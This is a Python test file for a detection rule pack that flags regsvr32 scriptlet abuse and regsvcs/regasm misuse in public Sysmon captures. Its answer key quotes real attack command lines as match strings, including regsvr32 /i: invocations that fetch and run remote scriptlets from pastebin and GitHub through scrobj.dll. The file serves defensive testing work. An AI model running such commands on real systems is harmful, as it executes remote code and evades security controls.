"""The pack on the public captures in tests/data: every true positive of the answer
key is found by the rule meant for it, and nothing else in 28,000 events raises an alert.

The answer key is tests/data/README.md ("True positives in these files"). Each row
below is one alert: (rule, capture file, text that must appear in the alert's events).
"""

from __future__ import annotations

from collections import Counter
from pathlib import Path

import pytest

from eqlwatch.model import Hit
from eqlwatch.rules import get_field
from tests.rulepack.conftest import EQLLIB, EVTX_SAMPLES, PackRule, describe, read_events, run_pack

pytestmark = pytest.mark.slow

NET = "registration_utility_network_connection"
SCT = "regsvr32_scriptlet_execution"
PATH = "regsvr32_unusual_path"
RENAMED = "regsvr32_renamed"
T1218_009 = "regsvcs_regasm_suspicious_execution"
ART = "PanacheSysmon_vs_AtomicRedTeam01"
EDR = "panache_sysmon_vs_EDRTestingScript"
ART_SCT = "atomics/T1117/RegSvr32.sct scrobj.dll"
EDR_SCT = "Payloads/Cmstp_calc.sct scrobj.dll"
BITS_SCT = "/u /s /i:https://raw.githubusercontent.com/3gstudent/SCTPersistence/master/calc.sct"
PASTEBIN = "/i:http://pastebin.com/raw/H4A4iDTA"
ALLTHETHINGS = "/s C:\\AtomicRedTeam\\atomics\\T1117\\bin\\AllTheThingsx86.dll"

ANSWER_KEY: list[tuple[str, str, str]] = [
    # exec_sysmon_lobin_regsvr32_sct: Squiblydoo from cmd.exe, connection logged 0.68 s early
    (SCT, "exec_sysmon_lobin_regsvr32_sct", f"regsvr32.exe  /u /s {PASTEBIN} scrobj.dll"),
    (NET, "exec_sysmon_lobin_regsvr32_sct", "104.20.208.21"),
    # the same scriptlet run by regsvr32 renamed to C:\ProgramData\jabber.exe
    (RENAMED, "exec_sysmon_1_lolbin_renamed_regsvr32_scrobj", f"jabber.exe  /u /s {PASTEBIN}"),
    (SCT, "exec_sysmon_1_lolbin_renamed_regsvr32_scrobj", f"jabber.exe  /u /s {PASTEBIN}"),
    # BITS-launched regsvr32: the command line has no program token
    (SCT, "exec_sysmon_1_7_jscript9_defense_evasion", BITS_SCT),
    (SCT, "sysmon_1_persist_bitsjob_SetNotifyCmdLine", BITS_SCT),
    (NET, "sysmon_1_persist_bitsjob_SetNotifyCmdLine", "151.101.128.133"),
    # Atomic Red Team under Panache Sysmon
    (T1218_009, ART, "v4.0.30319\\regasm.exe  /U T1121.dll"),
    (T1218_009, ART, 'v4.0.30319\\regsvcs.exe" T1121.dll'),
    (SCT, ART, "/i:C:\\AtomicRedTeam\\atomics\\T1117\\RegSvr32.sct scrobj.dll"),
    (
        SCT,
        ART,
        f"/i:https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/{ART_SCT}",
    ),
    (NET, ART, "151.101.0.133"),  # logged 3.15 s before the process start
    (PATH, ART, f'"C:\\Windows\\syswow64\\regsvr32.exe" {ALLTHETHINGS}'),
    (PATH, ART, f'"C:\\Windows\\system32\\regsvr32.exe" {ALLTHETHINGS}'),
    (PATH, ART, f"< {ALLTHETHINGS}>"),  # the WOW64 re-spawn, without the program token
    # EDR-Testing-Script under Panache Sysmon
    (T1218_009, EDR, "v4.0.30319\\regsvcs.exe  AllTheThings.dll"),
    (T1218_009, EDR, "v4.0.30319\\regasm.exe  /U AllTheThings.dll"),
    (SCT, EDR, EDR_SCT),
    (NET, EDR, "151.101.0.133"),
    # eqllib's Atomic Red Team run (bare EventData, braced GUIDs, no host)
    (SCT, "sysmon-atomic-red-team", "/i:C:\\AtomicRedTeam\\atomics\\T1117\\RegSvr32.sct"),
    (
        SCT,
        "sysmon-atomic-red-team",
        f"/i:https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/{ART_SCT}",
    ),
    (NET, "sysmon-atomic-red-team", "151.101.48.133"),
    (PATH, "sysmon-atomic-red-team", f'"C:\\Windows\\syswow64\\regsvr32.exe" {ALLTHETHINGS}'),
    (PATH, "sysmon-atomic-red-team", f'"C:\\WINDOWS\\system32\\regsvr32.exe" {ALLTHETHINGS}'),
    (T1218_009, "sysmon-atomic-red-team", "v4.0.30319\\regasm.exe  /U T1121.dll"),
    (T1218_009, "sysmon-atomic-red-team", 'v4.0.30319\\regsvcs.exe" T1121.dll'),
]

Alert = tuple[str, str, Hit]


def _stem(path: Path) -> str:
    return path.name.split(".")[0]


@pytest.fixture(scope="module")
def alerts(data_dir: Path, pack: list[PackRule]) -> list[Alert]:
    """Every alert of the pack over every capture, each capture run on its own."""
    files = sorted((data_dir / EVTX_SAMPLES / "ndjson").rglob("*.ndjson.gz"))
    files.append(data_dir / EQLLIB)
    out: list[Alert] = []
    for path in files:
        for key, hits in run_pack(pack, read_events(path)).items():
            out.extend((key, _stem(path), hit) for hit in hits)
    return out


def _text(hit: Hit) -> str:
    """The hit's events as `<value> | <value>`, so a needle can anchor on a value's start."""
    return " | ".join(f"<{value}>" for value in describe(hit))


def test_every_true_positive_is_found_by_its_rule(alerts: list[Alert]) -> None:
    for rule, capture, needle in ANSWER_KEY:
        found = [a for a in alerts if a[0] == rule and a[1] == capture and needle in _text(a[2])]
        assert found, f"{rule} missed {needle!r} in {capture}"


def test_no_alert_outside_the_answer_key(alerts: list[Alert]) -> None:
    """Each alert is claimed by exactly one answer-key row, and no row claims two alerts."""
    claims: Counter[int] = Counter()
    for rule, capture, hit in alerts:
        rows = [
            i
            for i, (r, c, needle) in enumerate(ANSWER_KEY)
            if r == rule and c == capture and needle in _text(hit)
        ]
        assert len(rows) == 1, f"unexpected alert {rule} on {capture}: {describe(hit)}"
        claims[rows[0]] += 1
    assert len(alerts) == len(ANSWER_KEY)
    assert max(claims.values()) == 1


def test_connections_logged_before_the_start_are_still_paired(alerts: list[Alert]) -> None:
    """The two skewed pairs of the README (0.68 s and 3.15 s) come out of the `sample`."""
    skews = []
    for rule, _capture, hit in alerts:
        if rule != NET:
            continue
        start, conn = hit.events
        assert get_field(start.source, "event.code") == "1"
        assert get_field(conn.source, "event.code") == "3"
        ids = {get_field(e.source, "process.entity_id") for e in hit.events}
        assert len(ids) == 1
        skews.append(str(conn.source["@timestamp"]) < str(start.source["@timestamp"]))
    assert skews.count(True) == 2
    assert skews.count(False) == 3


def test_scrobj_loads_by_other_hosts_are_not_flagged(alerts: list[Alert]) -> None:
    """Near misses of the README: mshta, cscript and rundll32 load scrobj.dll too."""
    for _rule, _capture, hit in alerts:
        for event in hit.events:
            name = str(get_field(event.source, "process.name") or "").lower()
            assert name not in {"mshta.exe", "cscript.exe", "rundll32.exe", "cmd.exe"}


def test_the_evtx_originals_give_the_same_alerts(
    data_dir: Path, pack: list[PackRule], alerts: list[Alert]
) -> None:
    """The six EVTX files (what `eqlwatch hunt` reads) alert exactly like their NDJSON copies."""
    evtx = sorted((data_dir / EVTX_SAMPLES / "evtx").rglob("*.evtx"))
    assert len(evtx) == 6
    for path in evtx:
        got = Counter(
            (key, _text(hit))
            for key, hits in run_pack(pack, read_events(path)).items()
            for hit in hits
        )
        want = Counter((a[0], _text(a[2])) for a in alerts if a[1] == _stem(path))
        assert got == want, path.name


def test_elastic_ground_truth_documents_raise_nothing(
    ground_truth_dir: Path, pack: list[PackRule]
) -> None:
    """Elastic's own Sysmon test documents (raw and ECS, 114 events): background only."""
    files = sorted(ground_truth_dir.rglob("*.json"))
    events = [event for path in files for event in read_events(path)]
    assert len(events) >= 100
    assert {k: len(v) for k, v in run_pack(pack, events).items() if v} == {}
